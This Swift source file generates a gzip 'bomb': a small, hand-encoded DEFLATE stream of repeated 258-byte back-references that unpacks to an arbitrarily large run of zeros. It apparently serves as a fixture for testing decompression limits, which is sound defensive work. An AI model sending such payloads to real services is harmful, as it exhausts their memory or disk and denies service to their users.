/// A small answer that unpacks to a large one.
enum GzipBomb {
    /// This many zeros as gzip: one block with fixed codes, in which 13 bits repeat the previous byte 258 times (RFC
    /// 1951, section 3.2.6).
    ///
    /// It has no checksum, because no reader gets that far.
    static func zeros(bytes: Int) -> [UInt8] {
        var bits = Bits(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3])
        // The last block, with fixed codes.
        bits.append(0b1, count: 1)
        bits.append(0b01, count: 2)
        bits.appendCode(0b0011_0000, count: 8)
        for _ in 0..<(bytes / 258) {
            bits.appendCode(0b1100_0101, count: 8)
            bits.appendCode(0, count: 5)
        }
        bits.appendCode(0, count: 7)
        return bits.bytes + [bits.rest]
    }

    /// Bits in the order of RFC 1951, lowest bit of a byte first.
    private struct Bits {
        var bytes: [UInt8]
        var rest: UInt8 = 0
        private var filled = 0

        init(bytes: [UInt8]) { self.bytes = bytes }

        mutating func append(_ value: Int, count: Int) {
            for index in 0..<count {
                rest |= UInt8(value >> index & 1) << filled
                filled += 1
                if filled == 8 {
                    bytes.append(rest)
                    (rest, filled) = (0, 0)
                }
            }
        }

        /// A Huffman code, highest bit first.
        mutating func appendCode(_ code: Int, count: Int) {
            for index in (0..<count).reversed() { append(code >> index, count: 1) }
        }
    }
}
